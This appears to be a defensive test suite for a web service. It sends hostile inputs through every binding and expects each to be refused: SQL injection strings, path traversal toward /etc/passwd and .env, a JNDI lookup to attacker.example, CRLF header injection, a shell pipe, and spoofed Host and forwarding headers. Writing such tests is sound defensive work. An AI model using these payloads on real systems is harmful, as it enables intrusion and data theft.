/** Common attacks through every binding for which they make sense, each followed by a good call. */
import type { BindingName } from '../../src/contract/bindings';
import { OPERATIONS } from '../../src/contract/operations';
import { BINDINGS, requestThrough } from '../support/four-bindings';
import { httpMessage } from '../support/requests';
import { ask, ENDPOINT, GOOD, RESULT } from './ask-hostile';

const escaped = (value: string) => value.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
const isSoap = (binding: BindingName) => binding.startsWith('soap');

describe.each([
  ['a quote', "5' OR '1'='1"],
  ['a second statement', '5; DROP TABLE event'],
  ['a union', '5 UNION SELECT NULL'],
  ['a comment', '5/**/'],
  ['a pause', "5||pg_sleep(9)||'"],
  ['a parameter of the database', '$1'],
  ['a cast', '5::text'],
  ['a path', '../../../../etc/passwd'],
  ['an address', 'http://attacker.example/'],
  ['a template', '{{7*7}}'],
  ['a lookup', `$${'{jndi:ldap://attacker.example/a}'}`],
  ['a header', '5\r\nSet-Cookie: a=b'],
  ['a shell', '5 | id'],
  ['a number of another script', '٥'],
  ['hexadecimal', '0x5'],
  ['a thousand digits', '9'.repeat(1_000)],
])('%s for a number or a boolean', (_what, value) => {
  const parameters = OPERATIONS.flatMap(({ name, parameters }) =>
    parameters.map((parameter) => [name, parameter.name] as const),
  );
  test.each(BINDINGS)('is refused in every parameter before the service, by %s', async (binding) => {
    for (const [operation, parameter] of parameters) {
      const { parameters: all } = OPERATIONS.find(({ name }) => name === operation) ?? { parameters: [] };
      const args = Object.fromEntries(
        all.map(({ name, type }) => [name, name === parameter ? value : type === 'boolean' ? 'true' : '5']),
      );
      const request = requestThrough(binding, operation, isSoap(binding) ? mapped(args, escaped) : args);
      const { answer, isCalled } = await ask(request);
      expect(answer.status).toBe(500);
      expect(isCalled).toBe(false);
      expect([...answer.headers.keys()]).not.toContain('set-cookie');
    }
  });
});

function mapped(args: Record<string, string>, change: (value: string) => string): Record<string, string> {
  return Object.fromEntries(Object.entries(args).map(([name, value]) => [name, change(value)]));
}

const PROPERTIES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
];

describe.each(PROPERTIES)('%s, which every object has or may be given', (name) => {
  test.each(BINDINGS)('is a parameter like any other that is unknown, by %s', async (binding) => {
    const { answer, text } = await ask(requestThrough(binding, 'SelectEvents', { [name]: 'x', ...GOOD }));
    expect(answer.status).toBe(200);
    expect(text).toContain(RESULT);
  });

  test.each(BINDINGS)('is no operation, by %s', async (binding) => {
    const hostile = await ask(requestThrough(binding, name, GOOD));
    const unknown = await ask(requestThrough(binding, 'Nope', GOOD));
    expect(hostile.answer.status).toBe(500);
    expect(hostile.text.replaceAll(name, 'Nope')).toBe(unknown.text);
  });
});

describe('a line end in what an answer may repeat', () => {
  test.each([
    `${ENDPOINT}/%0d%0aSet-Cookie:%20a=b`,
    `${ENDPOINT}/SelectEvents%0d%0aSet-Cookie:%20a=b?month=5&year=2031`,
    `${ENDPOINT}?op=%0d%0aSet-Cookie:%20a=b`,
    `${ENDPOINT}/SelectEvents?month=%0d%0aSet-Cookie:%20a=b&year=2031`,
    '/%0d%0aSet-Cookie:%20a=b',
    '/assets/%0d%0aSet-Cookie:%20a=b',
    '/calendar%0d%0aSet-Cookie:%20a=b',
  ])('makes no header: %s', async (target) => {
    const { answer } = await ask(httpMessage(`GET ${target} HTTP/1.1`));
    expect(answer.headers.has('set-cookie')).toBe(false);
  });
});

describe('a path out of the folder of files', () => {
  const UP = [
    '..',
    '%2e%2e',
    '.%2e',
    '..%2f..',
    '..%5c..',
    '..%252f..',
    '....//',
    '%c0%ae%c0%ae',
    '..;',
    '..%00',
  ];
  const BASES = ['/assets', '/calendar', '/WebServices', ENDPOINT, ''];
  test.each(BASES.flatMap((base) => UP.map((up) => `${base}/${up}`)))('%s leads nowhere', async (start) => {
    for (const file of ['package.json', 'src/main.ts', 'etc/passwd', '.env']) {
      const { answer, text } = await ask(httpMessage(`GET ${start}/${up(start)}${file} HTTP/1.1`));
      expect([400, 404, 500]).toContain(answer.status);
      expect(text).not.toMatch(/"dependencies"|createApp/);
    }
  });
  const up = (start: string) => `${start.split('/').at(-1)}/`.repeat(6);
});

describe('who the service is told that it is', () => {
  const document = (headers: Readonly<Record<string, string>>) =>
    httpMessage(`GET ${ENDPOINT}?WSDL HTTP/1.1`, headers);
  const BAD_HOSTS = ['a b', 'a/b', 'a@b', 'a:x', 'a:99999', '"a"', '<a>', 'a\\b', '[::1', 'a?b', 'a#b', 'ä'];

  test.each(BAD_HOSTS)('Host: %s is refused', async (host) => {
    const { answer } = await ask(document({ Host: host }));
    expect(answer.status).toBe(400);
  });

  test.each([
    { 'X-Forwarded-Host': 'attacker.example' },
    { 'X-Forwarded-Proto': 'https' },
    { 'X-Forwarded-Prefix': '/attacker' },
    { Forwarded: 'host=attacker.example;proto=https' },
    { 'X-Original-URL': '/attacker', 'X-Rewrite-URL': '/attacker' },
    { 'X-Http-Method-Override': 'DELETE' },
  ])('%j of one who is no trusted proxy changes nothing', async (headers) => {
    const plain = await ask(document({}));
    const { answer, text } = await ask(document({ ...headers }));
    expect(answer.status).toBe(200);
    expect(text).toBe(plain.text);
  });

  test.each(BAD_HOSTS)('X-Forwarded-Host: %s of a trusted proxy is refused', async (host) => {
    const { answer } = await ask(document({ 'X-Forwarded-Host': host }), { TRUST_PROXY: 'loopback' });
    expect(answer.status).toBe(400);
  });

  test('with PUBLIC_URL no Host is named', async () => {
    const { text } = await ask(document({ Host: 'attacker.example' }), {
      PUBLIC_URL: 'https://events.example',
    });
    expect(text).toContain('https://events.example/WebServices/Events.asmx');
    expect(text).not.toContain('attacker');
  });
});
